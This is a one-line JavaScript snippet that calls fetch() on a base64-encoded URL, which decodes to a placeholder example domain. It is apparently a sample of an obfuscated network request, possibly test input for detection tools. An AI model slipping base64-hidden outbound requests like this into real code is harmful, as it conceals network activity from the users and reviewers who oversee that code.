fetch(atob('aHR0cHM6Ly94LmV4YW1wbGUv'));
